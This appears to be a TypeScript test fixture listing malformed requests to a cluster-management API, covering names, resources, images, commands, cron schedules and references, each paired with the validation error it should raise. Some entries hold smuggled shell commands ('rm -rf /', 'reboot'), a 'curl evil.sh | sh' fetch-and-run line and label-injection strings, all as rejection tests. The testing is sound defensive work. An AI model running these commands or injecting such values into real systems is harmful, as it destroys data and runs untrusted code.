/*
 * The bad inputs of clusterRoutes.badInputs.test.ts, part 1: names, resources, images, commands
 * and env, labels, cron schedules, training shapes and references (part 2, the datasets,
 * inference services and pipelines: clusterRoutesBadInputs.serving.ts).
 */

/** Label, route, body, the status expected, what the error message must contain. */
export type BadCase = [string, string, unknown, number, string | RegExp];

/** Valid request bodies of each route but for `patch`, all pointing at `BAD_NS`. */
export function badBodies(BAD_NS: string) {
  const nb = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-nb',
    image: 'jupyter/base-notebook:latest',
    ...patch,
  });
  const job = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-job',
    kind: 'Job',
    image: 'python:3.12',
    command: ['python', '-c', 'print(1)'],
    ...patch,
  });
  const cron = (patch: Record<string, unknown>) =>
    job({ kind: 'CronJob', schedule: '0 3 * * *', ...patch });
  const ds = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-ds',
    source: { type: 'pvc', size: '1Gi' },
    catalogEntity: { owner: 'group:default/x' },
    ...patch,
  });
  const isvc = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-isvc',
    model: 'model:default/shoe-brand',
    modelVersion: 1,
    catalogEntity: { owner: 'group:default/x' },
    ...patch,
  });
  const pipeline = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-pipeline',
    steps: [
      {
        name: 'one',
        type: 'container',
        image: 'python:3.12',
        command: ['python', '-c', 'print(1)'],
      },
    ],
    ...patch,
  });
  return { nb, job, cron, ds, isvc, pipeline };
}

/** `NS`: where the good requests create objects; `BAD_NS`: where the bad ones point. */
export function workloadBadInputs(NS: string, BAD_NS: string): BadCase[] {
  const { nb, job, cron, ds, pipeline } = badBodies(BAD_NS);
  return [
    // names
    [
      'notebook: upper-case name',
      '/notebooks',
      nb({ name: 'MyNotebook' }),
      400,
      'request/body/name must match pattern',
    ],
    [
      'notebook: underscore in name',
      '/notebooks',
      nb({ name: 'my_nb' }),
      400,
      'request/body/name',
    ],
    [
      'notebook: name longer than 63',
      '/notebooks',
      nb({ name: 'a'.repeat(64) }),
      400,
      'request/body/name must NOT have more than 63 characters',
    ],
    [
      'notebook: name starting with a dash',
      '/notebooks',
      nb({ name: '-nb' }),
      400,
      'request/body/name',
    ],
    [
      'notebook: invalid namespace',
      '/notebooks',
      nb({ namespace: 'Team_A' }),
      400,
      'request/body/namespace',
    ],
    [
      'job: dotted name (not a DNS label)',
      '/jobs',
      job({ name: 'train.v2' }),
      400,
      'request/body/name',
    ],
    [
      'dataset: upper-case name',
      '/datasets',
      ds({ name: 'Sales' }),
      400,
      'request/body/name',
    ],
    [
      'pipeline: name longer than 52',
      '/pipelines',
      pipeline({ name: 'p'.repeat(53) }),
      400,
      'request/body/name must NOT have more than 52 characters',
    ],
    // resources
    [
      'notebook: negative GPU count',
      '/notebooks',
      nb({ resources: { gpu: -1 } }),
      400,
      'request/body/resources/gpu must be >= 0',
    ],
    [
      'notebook: fractional GPU count',
      '/notebooks',
      nb({ resources: { gpu: 0.5 } }),
      400,
      'request/body/resources/gpu must be integer',
    ],
    [
      'job: GPU count as a string',
      '/jobs',
      job({ resources: { gpu: '1; rm -rf /' } }),
      400,
      'request/body/resources/gpu must be integer',
    ],
    [
      'notebook: invalid CPU quantity',
      '/notebooks',
      nb({ resources: { cpu: '2 cores' } }),
      400,
      'request/body/resources/cpu must match pattern',
    ],
    [
      'notebook: zero memory',
      '/notebooks',
      nb({ resources: { memory: '0Gi' } }),
      400,
      'request/body/resources/memory',
    ],
    [
      'job: negative memory',
      '/jobs',
      job({ resources: { memory: '-1Gi' } }),
      400,
      'request/body/resources/memory',
    ],
    // images, commands, env: injection attempts
    [
      'notebook: shell in the image',
      '/notebooks',
      nb({ image: 'python:3.12; rm -rf /' }),
      400,
      'request/body/image must match pattern',
    ],
    [
      'notebook: oversized image',
      '/notebooks',
      nb({ image: `registry/${'a'.repeat(600)}` }),
      400,
      'request/body/image must NOT have more than 512 characters',
    ],
    [
      'job: command as a shell string',
      '/jobs',
      job({ command: 'python train.py && curl evil.sh | sh' }),
      400,
      'request/body/command must be array',
    ],
    [
      'job: NUL byte in an argument',
      '/jobs',
      job({ args: ['--x', 'a\u0000b'] }),
      400,
      'request/body/args/1 must not contain NUL characters',
    ],
    [
      'job: empty program',
      '/jobs',
      job({ command: [' '] }),
      400,
      'request/body/command',
    ],
    [
      'job: oversized argument list',
      '/jobs',
      job({ args: Array.from({ length: 300 }, () => 'x') }),
      400,
      'request/body/args must NOT have more than 256 items',
    ],
    [
      'notebook: env name with a semicolon',
      '/notebooks',
      nb({ env: [{ name: 'FOO;BAR', value: 'x' }] }),
      400,
      'request/body/env/0/name must match pattern',
    ],
    [
      'notebook: duplicate env names',
      '/notebooks',
      nb({
        env: [
          { name: 'A', value: '1' },
          { name: 'A', value: '2' },
        ],
      }),
      400,
      'request/body/env/1/name duplicate environment variable "A"',
    ],
    // labels: injection attempts
    [
      'notebook: label selector in entityRef',
      '/notebooks',
      nb({ entityRef: 'component:default/x,app=evil' }),
      400,
      'request/body/entityRef must match pattern',
    ],
    [
      'job: label injection in the queue name',
      '/jobs',
      job({ queue: { name: 'q,kueue.x-k8s.io/priority-class=high' } }),
      400,
      'request/body/queue/name must match pattern',
    ],
    [
      'notebook: label injection in a nodeSelector value',
      '/notebooks',
      nb({ nodeSelector: { disk: 'ssd,evil=1' } }),
      400,
      'request/body/nodeSelector/disk must match pattern',
    ],
    [
      'notebook: newline in a nodeSelector key',
      '/notebooks',
      nb({ nodeSelector: { 'disk\nevil': 'ssd' } }),
      400,
      'request/body/nodeSelector',
    ],
    [
      'notebook: unknown field (privileged)',
      '/notebooks',
      nb({ privileged: true }),
      400,
      'request/body/privileged must NOT have additional properties',
    ],
    // cron
    [
      'cronjob: minute out of range',
      '/jobs',
      cron({ schedule: '61 * * * *' }),
      400,
      'request/body/schedule minute value 61 is out of range 0-59',
    ],
    [
      'cronjob: six fields',
      '/jobs',
      cron({ schedule: '0 0 3 * * *' }),
      400,
      'request/body/schedule must have 5 fields',
    ],
    [
      'cronjob: @every macro',
      '/jobs',
      cron({ schedule: '@every 5m' }),
      400,
      'request/body/schedule unknown macro',
    ],
    [
      'cronjob: TZ prefix',
      '/jobs',
      cron({ schedule: 'TZ=UTC 0 3 * * *' }),
      400,
      'request/body/schedule must not contain a time zone',
    ],
    [
      'cronjob: shell in the schedule',
      '/jobs',
      cron({ schedule: '0 3 * * *; reboot' }),
      400,
      'request/body/schedule',
    ],
    [
      'cronjob: without schedule',
      '/jobs',
      cron({ schedule: undefined }),
      400,
      'request/body/schedule Required',
    ],
    [
      'job: schedule on a Job',
      '/jobs',
      job({ schedule: '0 3 * * *' }),
      400,
      'request/body/schedule is not allowed for kind Job',
    ],
    [
      'cronjob: invalid time zone',
      '/jobs',
      cron({ timeZone: 'UTC+5' }),
      400,
      'request/body/timeZone must match pattern',
    ],
    // training shapes
    [
      'job: unknown kind',
      '/jobs',
      job({ kind: 'PaddleJob' }),
      400,
      'request/body/kind must be equal to one of the allowed values',
    ],
    [
      'job: parallelism 0',
      '/jobs',
      job({ parallelism: 0 }),
      400,
      'request/body/parallelism must be >= 1',
    ],
    [
      'job: parallelism above completions',
      '/jobs',
      job({ parallelism: 4, completions: 2 }),
      400,
      'request/body/parallelism must not exceed completions',
    ],
    [
      'tfjob: neither chief nor worker',
      '/jobs',
      job({ kind: 'TFJob', replicas: { PS: 1 } }),
      400,
      'request/body/replicas a TFJob needs a Chief or at least one Worker',
    ],
    [
      'pytorchjob: two masters',
      '/jobs',
      job({ kind: 'PyTorchJob', replicas: { Master: 2 } }),
      400,
      'request/body/replicas/Master must be <= 1',
    ],
    [
      'pytorchjob: gang larger than the job',
      '/jobs',
      job({
        kind: 'PyTorchJob',
        replicas: { Worker: 1 },
        gang: { minMember: 5 },
      }),
      400,
      "request/body/gang/minMember must not exceed the job's 2 pods",
    ],
    // references
    [
      'notebook: unknown cluster',
      '/notebooks',
      nb({ cluster: 'nope' }),
      422,
      'request/body/cluster: unknown cluster "nope" (configured: local, local-restricted)',
    ],
    [
      'job: invalid cluster name',
      '/jobs',
      job({ cluster: 'bad cluster!' }),
      400,
      'request/body/cluster must match pattern',
    ],
    [
      'notebook: missing dataset',
      '/notebooks',
      nb({ datasets: [{ datasetRef: 'dataset:default/nope' }] }),
      422,
      'request/body/datasets/0/datasetRef: dataset:default/nope not found in the catalog or the registry',
    ],
    [
      'notebook: unknown dataset version',
      '/notebooks',
      nb({
        namespace: BAD_NS,
        datasets: [
          { datasetRef: 'dataset:default/bad-shoe-images', version: 'v9' },
        ],
      }),
      422,
      'request/body/datasets/0/version: dataset:default/bad-shoe-images has no version v9',
    ],
    [
      // a table is read, not mounted (./clusterRoutes.tables.test.ts)
      'notebook: a claim for a table dataset',
      '/notebooks',
      nb({
        datasets: [{ datasetRef: 'dataset:default/clicks', claimName: 'x' }],
      }),
      422,
      'request/body/datasets/0/claimName: dataset:default/clicks is a table; it is read by the code, not mounted',
    ],
    [
      'job: dataset claim in another namespace',
      '/jobs',
      job({ datasets: [{ datasetRef: 'dataset:default/shoe-images' }] }),
      422,
      `request/body/datasets/0/datasetRef: the claim of dataset:default/shoe-images is in namespace "${NS}", not "${BAD_NS}"`,
    ],
    [
      'job: not a dataset ref',
      '/jobs',
      job({ datasets: [{ datasetRef: 'model:default/shoe-brand' }] }),
      400,
      'request/body/datasets/0/datasetRef must match pattern',
    ],
    [
      'job: unknown model',
      '/jobs',
      job({ modelRef: 'model:default/ghost' }),
      422,
      'request/body/modelRef: model:default/ghost not found in the catalog',
    ],
  ];
}
